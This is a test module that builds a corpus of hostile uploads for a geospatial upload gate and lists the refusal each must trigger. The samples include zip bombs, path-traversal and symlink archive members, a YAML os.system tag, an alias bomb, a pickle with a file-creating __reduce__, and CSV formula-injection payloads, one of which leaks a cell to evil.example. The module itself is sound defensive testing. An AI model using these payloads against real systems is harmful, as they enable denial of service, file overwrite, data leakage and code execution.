"""The hostile corpus: files a careless partner or an attacker might upload, and what Wardscope must say.

Small files are committed in ``tests/hostile/`` (regenerate them with
``python -m tests.hostile_corpus``; a test checks they match this script).
Large ones (zip bombs, the 1,000,000-vertex polygon, the 50 MB file) are
built here deterministically at test time. Each :class:`Case` names the
error and the message the upload gate must give; ``stage`` says whether it
must refuse at the gate (nothing written at all) or when reading (the file
was stored in the session workspace, nowhere else). ``bench/bench_security.py``
runs the same corpus for the figures.
"""

from __future__ import annotations

import dataclasses
import io
import os
import pickle
import random
import sqlite3
import stat
import struct
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from geo import errors  # noqa: E402
from geo.upload.gate import (  # noqa: E402
    PROFILE_KINDS, TABLE_KINDS, VECTOR_KINDS, accept_upload, describe_result, read_upload,
)
from tests.upload_fixtures import ZIP_TIME, shapefile_parts, shapefile_zip, squares, zip_bytes  # noqa: E402

HOSTILE_DIR = HERE / "hostile"
#: Files the hostile archives try to create outside the workspace; tests check they never appear.
EVIL_ABSOLUTE = "/tmp/wardscope-hostile-evil.txt"
UNPICKLED_MARKER = "/tmp/wardscope-hostile-unpickled"
SHELL_MARKER = "/tmp/wardscope-hostile-pwned"
MARKERS = (EVIL_ABSOLUTE, UNPICKLED_MARKER, SHELL_MARKER)


@dataclasses.dataclass(frozen=True)
class Case:
    """One hostile file and the refusal (or flag) it must produce."""

    filename: str
    kinds: frozenset
    error: type | None  # None: accepted, and ``message`` must appear in what is said of it (summary, warnings)
    message: str  # a fragment of the expected one-line message
    stage: str  # "gate": refused by accept_upload; "read": refused by the reader
    build: Callable[[], bytes]
    committed: bool = True
    read_options: tuple = ()

    @property
    def name(self) -> str:
        return self.filename.rsplit(".", 1)[0]

    def data(self) -> bytes:
        return (HOSTILE_DIR / self.filename).read_bytes() if self.committed else self.build()


# --- builders -------------------------------------------------------------------------------


def _info(name: str, *, mode: int = stat.S_IFREG | 0o644, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, ZIP_TIME)
    info.create_system = 3  # unix, so external_attr carries the mode
    info.external_attr = mode << 16
    info.compress_type = method
    return info


def _zip(members: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for info, data in members:
            zf.writestr(info, data)
    return buf.getvalue()


def _shapefile_members(stem: str = "sites") -> list[tuple[zipfile.ZipInfo, bytes]]:
    return [(_info(f"{stem}{suffix}"), data) for suffix, data in sorted(shapefile_parts(squares()).items())]


def zip_bomb(size_mb: int = 50) -> bytes:
    """A shapefile whose .shp is ``size_mb`` MB of zeros: about 50 KB on the wire."""
    parts = shapefile_parts(squares())
    return _zip([(_info("sites.shp"), bytes(size_mb * 2**20)), (_info("sites.shx"), parts[".shx"]),
                 (_info("sites.dbf"), parts[".dbf"])])


def nested_zip_bomb() -> bytes:
    """A normal-looking shapefile zip that also carries a zip bomb inside."""
    return _zip(_shapefile_members() + [(_info("inner.zip", method=zipfile.ZIP_STORED), zip_bomb())])


def overlapping_zip() -> bytes:
    """Two central-directory entries pointing at the same data (the 'non-recursive' zip bomb trick)."""
    rng = random.Random(9)
    raw = _zip([(_info("sites.shp", method=zipfile.ZIP_STORED), rng.randbytes(20_000)),
                (_info("sites.shx", method=zipfile.ZIP_STORED), rng.randbytes(20_000)),
                (_info("sites.dbf", method=zipfile.ZIP_STORED), rng.randbytes(2_000))])
    data = bytearray(raw)
    cd = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)  # second central-directory record
    struct.pack_into("<I", data, cd + 42, 0)  # its local header offset -> the first member's
    return bytes(data)


def traversal_zip(evil_name: str) -> bytes:
    return _zip(_shapefile_members() + [(_info(evil_name), b"written outside the upload folder\n")])


def symlink_zip() -> bytes:
    members = _shapefile_members()
    members[0] = (_info("sites.cpg", mode=stat.S_IFLNK | 0o777), b"/etc/passwd")
    return _zip(members)


def device_zip() -> bytes:
    return _zip(_shapefile_members() + [(_info("tty", mode=stat.S_IFCHR | 0o666), b"")])


def encrypted_zip() -> bytes:
    data = bytearray(_zip(_shapefile_members()))
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local headers, central directory
        at = data.find(sig)
        while at != -1:
            data[at + flag_at] |= 0x01  # 'encrypted' bit: zipfile cannot write real encryption
            at = data.find(sig, at + 4)
    return bytes(data)


def too_many_members(count: int = 5000) -> bytes:
    return _zip(_shapefile_members() + [(_info(f"part{i:05d}.txt"), b"") for i in range(count)])


def truncated_shapefile() -> bytes:
    parts = shapefile_parts(squares(20))
    parts[".shp"] = parts[".shp"][: len(parts[".shp"]) // 2]
    return zip_bytes({f"sites{s}": d for s, d in sorted(parts.items())})


def huge_polygon_geojson(vertices: int = 1_000_000) -> bytes:
    """One polygon with ``vertices`` vertices (ring closed), a 5 km circle round Luton, about 25 MB."""
    import numpy as np

    angles = np.linspace(0.0, 2 * np.pi, vertices - 1, endpoint=False)
    lon = np.round((-0.42 + 0.07 * np.cos(angles)) * 1e6).astype(np.int64).tolist()
    lat = np.round((51.88 + 0.045 * np.sin(angles)) * 1e6).astype(np.int64).tolist()
    ring = ",".join(f"[{x}e-6,{y}e-6]" for x, y in zip(lon + lon[:1], lat + lat[:1]))  # micro-degrees
    return ('{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"E01000001"},'
            '"geometry":{"type":"Polygon","coordinates":[[' + ring + ']]}}]}').encode()


def deep_geojson(depth: int = 100_000) -> bytes:
    return ('{"type":"FeatureCollection","features":' + "[" * depth + "]" * depth + "}").encode()


def formula_csv() -> bytes:
    return (
        "site_name,postcode,jobs,notes\r\n"
        "Hub A,LU1 2AB,120,ok\r\n"
        '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",LU1 3CD,45,\r\n'
        "Hub C,LU2 1EF,-12,\"+cmd|' /C calc'!A0\"\r\n"
        "@SUM(1+1)*cmd|' /C calc'!A0,LU3 4GH,7,=1+2\r\n"
        "\"\tTab start\",LU4 5IJ,+44,-2+3\r\n"
    ).encode()


def object_tag_yaml() -> bytes:
    return (f"name: Growth\nweights: !!python/object/apply:os.system ['touch {SHELL_MARKER}']\n").encode()


def billion_laughs_yaml() -> bytes:
    lines = ['lol0: &lol0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"lol{i}: &lol{i} [" + ",".join([f"*lol{i - 1}"] * 10) + "]" for i in range(1, 10)]
    return ("\n".join(lines) + "\n").encode()


def deep_yaml(depth: int = 100_000) -> bytes:
    return ("[" * depth + "]" * depth + "\n").encode()


def binary_not_text_csv() -> bytes:
    rng = random.Random(17)
    return b"code,name\n" + bytes([0x81]) + rng.randbytes(4000)


def nul_bytes_csv() -> bytes:
    return b"code,name\nE01000001,Luton\x00\x00\x00\x01\x02\nE01000002,B\n"


def utf16_csv() -> bytes:
    return "code,name\nE01000001,Luton\n".encode("utf-16")


def png_as_csv() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


class _Unpickled:
    def __reduce__(self):
        return (open, (UNPICKLED_MARKER, "w"))  # would create the marker file if anything unpickled it


def pickle_as_csv() -> bytes:
    return pickle.dumps(_Unpickled(), protocol=4)


def xlsx_as_csv() -> bytes:
    return _zip([(_info("[Content_Types].xml"), b"<Types/>"), (_info("xl/workbook.xml"), b"<workbook/>")])


def sqlite_not_gpkg() -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.db"
        con = sqlite3.connect(path)
        con.execute("CREATE TABLE sites (name TEXT)")
        con.execute("INSERT INTO sites VALUES ('A')")
        con.commit()
        con.close()
        return path.read_bytes()


def oversized_csv() -> bytes:
    return b"code\n" + b"E01000001\n" * (50 * 2**20 // 10 + 1)


def wide_csv(columns: int = 100_000) -> bytes:
    return (",".join(f"c{i}" for i in range(columns)) + "\n" + ",".join("1" * columns) + "\n").encode()


def unclosed_quote_csv() -> bytes:
    return b'code,name\nE01000001,"' + b"x" * 200_000 + b"\n"


def lonlat_squares():
    """Three small squares round Luton in longitude/latitude degrees, wrongly labelled EPSG:27700."""
    import geopandas as gpd
    import shapely

    boxes = [shapely.box(-0.42 + i * 0.01, 51.88, -0.415 + i * 0.01, 51.885) for i in range(3)]
    return gpd.GeoDataFrame({"code": [f"E0100{i:04d}" for i in range(3)]}, geometry=boxes, crs=27700)


def bng_declared_lonlat_zip() -> bytes:
    """A shapefile whose .prj says British National Grid but whose coordinates are degrees."""
    return shapefile_zip(lonlat_squares())


def lonlat_no_prj_zip() -> bytes:
    """Degrees without a .prj: refused when the user answers 'British National Grid' (--assume-crs 27700)."""
    return shapefile_zip(lonlat_squares(), drop=(".prj",))


def nan_point_geojson() -> bytes:
    return (b'{"type":"FeatureCollection","features":[\n'
            b'{"type":"Feature","properties":{"name":"Hub A"},"geometry":{"type":"Point","coordinates":[-0.42,51.88]}},\n'
            b'{"type":"Feature","properties":{"name":"Hub B"},"geometry":{"type":"Point","coordinates":[NaN,51.88]}}\n'
            b']}\n')


def mixed_encoding_csv() -> bytes:
    """Lines pasted together from a UTF-8 file and a Windows-1252 one: read as either, one is mojibake."""
    return ("site_name,postcode,notes\r\n".encode("ascii") + "Café Hub,LU1 2AB,open\r\n".encode("utf-8")
            + "Shop,LU2 1EF,£5 entry\r\n".encode("cp1252"))


def decimal_commas_csv() -> bytes:
    """Continental Excel: semicolons between columns, decimal commas in the numbers."""
    return b"name;jobs;latitude;longitude\r\nHub A;120;51,88;-0,42\r\nHub B;1.250;51,8793;-0,4234\r\n"


def mixed_decimals_csv() -> bytes:
    return b"name;jobs;latitude;longitude\r\nHub A;120;51,88;-0.42\r\n"


def many_keys_yaml(keys: int = 60_000) -> bytes:
    """A plain mapping with 60,000 keys and no aliases: too big for a profile, but no alias bomb."""
    return ("name: Growth\nweights:\n" + "".join(f"  k{i:05d}: 1\n" for i in range(keys))).encode()


def dotdot_folder_zip() -> bytes:
    """A shapefile in a folder called '..sites': a legal name, not a traversal."""
    return shapefile_zip(squares(), folder="..sites/")


# --- the corpus -------------------------------------------------------------------------------

V, T, P = VECTOR_KINDS, TABLE_KINDS, PROFILE_KINDS

CASES: tuple[Case, ...] = (
    Case("zip_bomb.zip", V, errors.UnsafeArchive, "the mark of a zip bomb", "gate", zip_bomb, committed=False),
    Case("nested_zip_bomb.zip", V, errors.UnsafeArchive, "nested archives are not opened", "gate", nested_zip_bomb,
         committed=False),
    Case("overlapping_zip.zip", V, errors.UnsafeArchive, "overlap inside the archive (a crafted zip bomb)", "gate",
         overlapping_zip),
    Case("too_many_members.zip", V, errors.UnsafeArchive, "holds 5,005 files; the limit is 100", "gate",
         too_many_members, committed=False),
    Case("traversal_dotdot.zip", V, errors.UnsafeArchive, "uses '..' and would be written outside the upload folder "
         "(path traversal)", "gate", lambda: traversal_zip("../evil.txt")),
    Case("traversal_backslash.zip", V, errors.UnsafeArchive, "(path traversal)", "gate",
         lambda: traversal_zip("..\\..\\evil.txt")),
    Case("traversal_absolute.zip", V, errors.UnsafeArchive, "has an absolute path and would be written outside",
         "gate", lambda: traversal_zip(EVIL_ABSOLUTE)),
    Case("symlink_member.zip", V, errors.UnsafeArchive, "'sites.cpg' is a symbolic link", "gate", symlink_zip),
    Case("device_member.zip", V, errors.UnsafeArchive, "'tty' is a device or other special file", "gate", device_zip),
    Case("encrypted.zip", V, errors.UnsafeArchive, "is encrypted; password-protected zips are not accepted", "gate",
         encrypted_zip),
    Case("truncated_shapefile.zip", V, errors.IncompleteShapefile, "the .shp file is truncated or damaged", "read",
         truncated_shapefile),
    Case("huge_polygon.geojson", V, errors.UploadTooLarge, "feature #1 has 1,000,000 vertices; the limit is "
         "250,000 per feature", "read", huge_polygon_geojson, committed=False),
    Case("deep_nesting.geojson", V, errors.UploadRejected, "Too many nested objects", "read", deep_geojson,
         committed=False),
    Case("formula_injection.csv", T, None, "start with =, +, -, @ or a tab like spreadsheet formulas", "read",
         formula_csv),
    Case("object_tag.yaml", P, errors.UnsafeYAML, "the tag !!python/object/apply:os.system is not allowed", "gate",
         object_tag_yaml),
    Case("billion_laughs.yaml", P, errors.UnsafeYAML, "expands to more than 100,000 values through aliases", "gate",
         billion_laughs_yaml),
    Case("deep_nesting.yaml", P, errors.UnsafeYAML, "is nested deeper than 32 levels", "gate", deep_yaml,
         committed=False),
    Case("binary_not_text.csv", T, errors.UploadEncodingError, "is not text in UTF-8 or Windows-1252", "gate",
         binary_not_text_csv),
    Case("nul_bytes.csv", T, errors.UploadEncodingError, "contains binary data (control character 0x00", "gate",
         nul_bytes_csv),
    Case("utf16.csv", T, errors.UploadEncodingError, "is UTF-16 text; save it as UTF-8", "gate", utf16_csv),
    Case("png_renamed.csv", T, errors.UnsupportedUpload, "this is a PNG image, not a CSV table", "gate", png_as_csv),
    Case("pickle_renamed.csv", T, errors.UnsupportedUpload, "a Python pickle (Wardscope never opens pickles)", "gate",
         pickle_as_csv),
    Case("xlsx_renamed.csv", T, errors.UnsupportedUpload, "this is an Excel workbook (.xlsx)", "gate", xlsx_as_csv),
    Case("sqlite_renamed.gpkg", V, errors.UnsupportedUpload, "an SQLite database but not a GeoPackage", "gate",
         sqlite_not_gpkg, committed=False),
    Case("oversized.csv", T, errors.UploadTooLarge, "the upload limit is 50 MB", "gate", oversized_csv,
         committed=False),
    Case("wide.csv", T, errors.UploadTooLarge, "has 100,000 columns; the limit is 1,000", "read", wide_csv,
         committed=False),
    Case("unclosed_quote.csv", T, errors.UploadTooLarge, "a cell is longer than 131,072 characters (an unclosed quote?)",
         "read", unclosed_quote_csv, committed=False),
    # numbers and coordinates that cannot be right (issue 12, item 6)
    Case("bng_declared_lonlat.zip", V, errors.CRSError, "coordinates look like longitude/latitude, not British "
         "National Grid metres; the file declares EPSG:27700", "read", bng_declared_lonlat_zip),
    Case("lonlat_assumed_bng.zip", V, errors.CRSError, "you chose EPSG:27700 but the coordinates look like "
         "longitude/latitude, not British National Grid metres; choose EPSG:4326 instead", "read", lonlat_no_prj_zip,
         read_options=(("assume_crs", 27700),)),
    Case("nan_point.geojson", V, errors.UploadRejected, "feature #2 has a coordinate that is not a number (NaN",
         "read", nan_point_geojson),
    Case("mixed_encoding.csv", T, errors.UploadEncodingError, "mixes UTF-8 and Windows-1252 text: line 2 is UTF-8 "
         "('é') but line 3 is not (byte 0xa3, '£' in Windows-1252)", "gate", mixed_encoding_csv),
    Case("decimal_commas.csv", T, None, "uses decimal commas, so numbers were read with the comma as the decimal "
         "point (line 2: '51,88' = 51.88", "read", decimal_commas_csv),
    Case("mixed_decimals.csv", T, errors.UploadRejected, "mixes decimal commas (line 2, column 'latitude': '51,88') "
         "and decimal points (line 2, column 'longitude': '-0.42')", "read", mixed_decimals_csv),
    Case("many_keys.yaml", P, errors.UnsafeYAML, "has too many keys: more than 100,000 keys and values", "gate",
         many_keys_yaml, committed=False),
    Case("dotdot_folder.zip", V, None, "accepted as zip-shapefile (the shapefile '..sites/sites.shp')", "read",
         dotdot_folder_zip),
)


@dataclasses.dataclass
class Outcome:
    refused: bool
    error: BaseException | None
    message: str
    result: object = None


def run_case(case: Case, workspace, data: bytes | None = None) -> Outcome:
    """Send ``case`` through the gate and its reader, as a page would. Only WardscopeErrors are caught."""
    data = case.data() if data is None else data
    try:
        upload = accept_upload(case.filename, data, workspace=workspace, kinds=case.kinds,
                               max_bytes=50 * 2**20)
        result = read_upload(upload, **dict(case.read_options))
    except errors.WardscopeError as exc:
        return Outcome(True, exc, str(exc))
    # what `cli.py check` prints for an accepted file: what it holds, then the warnings
    said = [describe_result(upload, result), *getattr(result, "attrs", {}).get("warnings", [])]
    return Outcome(False, None, " ".join(said), result)


def handled_as_expected(case: Case, outcome: Outcome) -> bool:
    """Refused with the expected error and message (or, for a flag case, accepted with the warning)."""
    if case.error is None:
        return not outcome.refused and case.message in outcome.message
    return outcome.refused and isinstance(outcome.error, case.error) and case.message in outcome.message


def write_committed(directory: Path = HOSTILE_DIR) -> list[Path]:
    """(Re)write the committed small files."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for case in CASES:
        if case.committed:
            path = directory / case.filename
            path.write_bytes(case.build())
            written.append(path)
    return written


if __name__ == "__main__":
    for path in write_committed():
        print(f"wrote {path.relative_to(ROOT)} ({os.path.getsize(path):,} bytes)")
